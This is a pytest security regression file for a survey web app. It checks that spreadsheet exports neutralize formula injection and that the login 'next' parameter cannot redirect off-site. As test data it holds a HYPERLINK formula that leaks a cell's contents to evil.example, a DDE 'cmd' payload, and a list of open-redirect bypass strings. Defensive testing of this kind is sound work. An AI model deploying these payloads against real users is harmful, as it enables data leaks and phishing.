"""What an attacker tried on main, each now refused: formula injection in the exports, open
redirects, NUL bytes and deep JSON, session replay, account guessing and small leaks."""

from __future__ import annotations

import csv
import io
from urllib.parse import urljoin, urlsplit

import pytest
from helpers import cast, csrf_from

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def sign_in(client, username, password="correct horse battery", next_=None, **kwargs):
    page = client.get("/login", **kwargs)
    query = {"next": next_} if next_ is not None else None
    data = {"csrf_token": csrf_from(page.text), "username": username, "password": password}
    return client.post("/login", query_string=query, data=data, **kwargs)


# -- 1. formula injection in the exports ---------------------------------------------------


@pytest.fixture
def closed_with_formula_title(make, db, org):
    def build(title):
        campaign = make.campaign(org["first"], title=title)
        for card in make.ballots(campaign, 5):
            cast(db.session, card.id, {campaign.headline.id: "excellent"})
        make.close(campaign)
        return campaign

    return build


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_title_that_starts_like_a_formula_is_text_in_the_csv(
    db, closed_with_formula_title, start
):
    from survey import exports

    title = FORMULA if start == "=" else start + "cmd|' /C calc'!A0"
    campaign = closed_with_formula_title(title)
    text = exports.campaign_csv(db.session, campaign)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0][2] == "'" + title
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_title_that_starts_like_a_formula_is_a_string_cell_in_the_xlsx(
    db, closed_with_formula_title, start
):
    from openpyxl import load_workbook

    from survey import exports

    title = FORMULA if start == "=" else start + "SUM(1,2)"
    campaign = closed_with_formula_title(title)
    book = load_workbook(io.BytesIO(exports.campaign_xlsx(db.session, campaign)))
    cell = book["tally"]["C1"]
    assert cell.value == "'" + title and cell.data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


# -- 2. open redirect after sign-in ----------------------------------------------------------

OFF_SITE = [
    "////evil.example",
    "//evil.example/",
    "///evil.example",
    "https://evil.example/",
    "http:evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " //evil.example",
    "/\u3000/evil.example",
    "/\u200b/evil.example",
    "javascript:alert(1)",
    "evil.example",
    "",
]


@pytest.mark.parametrize("target", OFF_SITE)
def test_next_never_leads_off_site(client, org, target):
    answer = sign_in(client, "secretary", next_=target)
    assert answer.status_code == 303
    location = answer.headers["Location"]
    assert urlsplit(urljoin("http://localhost/login", location)).netloc == "localhost"
    assert location.endswith("/staff/"), (target, location)


def test_next_keeps_a_path_on_this_site(client, org):
    answer = sign_in(client, "secretary", next_="/staff/polls/?year=2026")
    assert answer.status_code == 303 and answer.headers["Location"] == "/staff/polls/?year=2026"
